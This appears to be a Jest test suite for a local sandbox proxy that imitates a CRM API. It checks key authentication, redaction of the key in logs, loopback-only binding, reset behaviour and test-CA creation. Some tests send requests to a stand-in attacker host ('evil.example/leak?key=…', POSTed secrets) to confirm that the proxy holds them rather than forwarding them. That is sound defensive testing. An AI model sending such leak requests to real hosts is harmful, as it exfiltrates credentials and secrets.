import { readFileSync, rmSync, statSync } from 'node:fs';
import { connect } from 'node:net';
import http from 'node:http';
import { networkInterfaces } from 'node:os';
import path from 'node:path';
import { temporaryFolder } from '../../../scripts/temporaryFolder';
import { ensureTestCa } from '../../sandbox';
import { requestLine } from '../../sandbox/requestLine';
import { until } from '../../until';
import { blockPath, contactPath, startUnderTest, useSandboxUnderTest } from './sandboxUnderTest';

const lines: string[] = [];
const under = useSandboxUnderTest({ apiKey: 'a-key-of-its-own', log: (line) => lines.push(line) });

describe('the key', () => {
	it.each([
		['a wrong one', 'Bearer wrong'],
		['two blanks', 'Bearer  a-key-of-its-own'],
		['another scheme', 'Basic a-key-of-its-own'],
		['none', ''],
	])('%s is answered 401', async (_what, authorization) => {
		const { status, json } = await under.send({ path: `${contactPath}/101`, headers: { authorization } });
		expect(status).toBe(401);
		expect(json).toMatchObject({ error: { code: 'ERROR_UNAUTHORIZED' } });
		expect(under.sandbox.journal).toMatchObject([{ status: 401, carriedOut: false }]);
	});

	it('is rejected 403 where its permission was taken away, and only there', async () => {
		under.sandbox.permissions.delete('blockedVisitor');
		expect(await under.send({ path: blockPath })).toMatchObject({ status: 403, json: { error: { code: 'ERROR_UNAUTHORIZED_ACCESS' } } });
		expect((await under.send({ path: `${contactPath}/101` })).status).toBe(200);
	});

	it('may be another one that a test has added, up to the next reset', async () => {
		const send = async () => (await under.send({ path: `${contactPath}/101`, headers: { authorization: 'Bearer second' } })).status;
		under.sandbox.otherKeys.add('second');
		expect(await send()).toBe(200);
		under.sandbox.reset();
		expect(await send()).toBe(401);
	});

	it('is in no line of the log', async () => {
		lines.length = 0;
		await under.send({ method: 'PUT', path: `${contactPath}/101`, body: { fields: { city: 'a-key-of-its-own' } } });
		await under.send({ path: '/leak?key=a-key-of-its-own', host: 'evil.example' });
		expect(lines).toHaveLength(2);
		expect(lines[0]).toMatch(/^\d\d:\d\d:\d\d\.\d{3} {2}PUT {5}\/api\/v1\/crm\/objects\/contact\/101 {2}200 {2}\{"fields":\{"city":"\*\*\*"\}\}$/);
		expect(lines.join('\n')).not.toContain('a-key-of-its-own');
	});
});

it('shortens a long body in the log', () => {
	const line = requestLine({ at: 0, isWrite: true, method: 'POST', path: '/p', query: { a: ['1', '2'] }, headers: {}, body: 'y'.repeat(500), status: 200, carriedOut: true });
	expect(line).toMatch(/^00:00:00\.000 {2}POST {4}\/p\?a=1&a=2 {2}200 {2}"y{159}…$/);
});

it('is out of reach for other machines', async () => {
	const { port } = new URL(under.sandbox.proxyUrl);
	const reached = async (host: string) =>
		await new Promise<boolean>((resolve) => {
			const socket = connect({ host, port: Number(port), timeout: 2_000 });
			const end = (isOpen: boolean) => socket.destroy() && resolve(isOpen);
			socket.on('connect', () => end(true)).on('timeout', () => end(false)).on('error', () => end(false));
		});
	// What listens on all interfaces can be reached by each of them. A machine without a network has none but the first.
	const outward = Object.values(networkInterfaces()).flatMap((addresses = []) => addresses.filter(({ family, internal }) => family === 'IPv4' && !internal).map(({ address }) => address));
	const hosts = ['127.0.0.1', ...outward];
	expect(await Promise.all(hosts.map(reached))).toEqual(hosts.map((host) => host === '127.0.0.1'));
});

describe('another host', () => {
	it.each(['evil.example', 'acme.acquire.io.evil.example', 'other.acquire.io'])('%s gets nothing, and is noted', async (host) => {
		const { status, text } = await under.send({ method: 'POST', path: '/leak?a=1', host, body: { secret: 1 } });
		expect([status, text]).toEqual([200, '{}']);
		expect(under.sandbox.journal).toEqual([]);
		expect(under.sandbox.foreignRequests).toMatchObject([
			{ method: 'POST', url: `https://${host}/leak?a=1`, body: '{"secret":1}', headers: { authorization: 'Bearer a-key-of-its-own' } },
		]);
	});

	it('includes the own one without TLS', async () => {
		const { port } = new URL(under.sandbox.proxyUrl);
		const status = await new Promise((resolve, reject) => {
			http.get({ port, host: '127.0.0.1', path: 'http://acme.acquire.io/api/v1/crm/objects/contact/101' }, (answer) => resolve(answer.resume().statusCode)).on('error', reject);
		});
		expect(status).toBe(200);
		expect(under.sandbox.journal).toEqual([]);
		expect(under.sandbox.foreignRequests).toMatchObject([{ method: 'GET', url: 'http://acme.acquire.io/api/v1/crm/objects/contact/101' }]);
	});

	it('answers what a test gave it, until the reset', async () => {
		under.sandbox.answerForeign('shop.example', ({ url }) => ({ status: 201, headers: { 'x-a': 'b' }, body: url }));
		expect(await under.send({ path: '/x', host: 'shop.example' })).toMatchObject({ status: 201, text: 'https://shop.example/x', headers: { 'x-a': 'b' } });
		under.sandbox.reset();
		expect((await under.send({ path: '/x', host: 'shop.example' })).text).toBe('{}');
	});
});

it.each([
	['outside the contract', '/api/v1/crm/unlisted', 400],
	['of the contract', '/api/v1/crm/tag', 200],
] as const)('answers a call %s as a test told it to, with the key only, until the reset', async (_which, path, statusAfter) => {
	const { sandbox, send } = under;
	sandbox.answerOutsideContract(`GET ${path}`, { count: 0, data: [] });
	expect(await send({ path: `${path}?search=x` })).toMatchObject({ status: 200, json: { data: { count: 0, data: [] } } });
	expect((await send({ path, headers: { authorization: 'Bearer wrong' } })).status).toBe(401);
	sandbox.reset();
	expect((await send({ path })).status).toBe(statusAfter);
});

it('reset brings everything back', async () => {
	const { sandbox, send } = under;
	const before = sandbox.store.contacts();
	await send({ method: 'DELETE', path: `${contactPath}/101` });
	sandbox.setDialect({ missingRecord: 404 });
	sandbox.permissions.clear();
	sandbox.faults.next({ fault: { kind: 'html', status: 500 }, times: 9 });
	sandbox.reset();
	expect(sandbox.store.contacts()).toEqual(before);
	expect(sandbox.journal).toEqual([]);
	expect(sandbox.dialect.missingRecord).toBe(400);
	expect((await send({ path: `${contactPath}/101` })).status).toBe(200);
});

it('keeps what was outside the contract, also where a fault took its place, beyond the reset', async () => {
	const { sandbox, send } = under;
	sandbox.violations.length = 0;
	sandbox.faults.next({ fault: { kind: 'status', status: 503 } });
	expect((await send({ path: `${contactPath}/first` })).status).toBe(503);
	await send({ path: `${contactPath}/101` });
	sandbox.reset();
	expect(sandbox.violations).toMatchObject([{ path: `${contactPath}/first`, contractViolation: expect.stringContaining('must be integer') as string }]);
});

it('gives copies, so that a test cannot change the data by accident', () => {
	const copy = under.sandbox.store.contact(101);
	if (copy) copy.fields.city = 'Elsewhere';
	expect(under.sandbox.store.contact(101)?.fields.city).toBe('Springfield');
});

it('stop breaks off late answers and closes the port', async () => {
	const { sandbox, send } = await startUnderTest({ latencyMs: 60_000 });
	const waiting = send({ path: `${contactPath}/101` });
	await until(() => sandbox.journal.length > 0);
	await Promise.all([expect(waiting).rejects.toThrow(), sandbox.stop()]);
	const port = Number(new URL(sandbox.proxyUrl).port);
	const rejected = await new Promise((resolve) => connect(port, '127.0.0.1').on('connect', () => resolve('open')).on('error', (reason) => resolve(Reflect.get(reason, 'code'))));
	expect(rejected).toBe('ECONNREFUSED');
});

it('makes the test CA once, also when asked twice at the same time, for its owner only', async () => {
	const folder = temporaryFolder('test-ca');
	try {
		const caFolder = path.join(folder, 'ca');
		const [first, second] = await Promise.all([ensureTestCa(caFolder), ensureTestCa(caFolder)]);
		const third = await ensureTestCa(caFolder);
		expect([second, third]).toEqual([first, first]);
		expect(readFileSync(first.certificateFile, 'utf8')).toBe(first.cert);
		for (const file of ['ca.pem', 'ca.key']) expect(statSync(path.join(caFolder, file)).mode & 0o777).toBe(0o600);
	} finally {
		rmSync(folder, { recursive: true });
	}
});

it('makes the test CA anew where the clock was set back, or it soon ends', async () => {
	const folder = temporaryFolder('test-ca');
	const certificateAt = async (time: string): Promise<string> => {
		jest.useFakeTimers({ now: Date.parse(time), doNotFake: ['hrtime', 'nextTick', 'performance', 'queueMicrotask', 'setImmediate', 'setInterval', 'setTimeout'] });
		return (await ensureTestCa(path.join(folder, 'ca'))).cert;
	};
	try {
		const first = await certificateAt('2030-01-04');
		expect(await certificateAt('2030-01-05')).toBe(first);
		const earlier = await certificateAt('2030-01-01');
		expect(earlier).not.toBe(first);
		expect(await certificateAt('2040-01-01')).not.toBe(earlier);
	} finally {
		jest.useRealTimers();
		rmSync(folder, { recursive: true });
	}
});
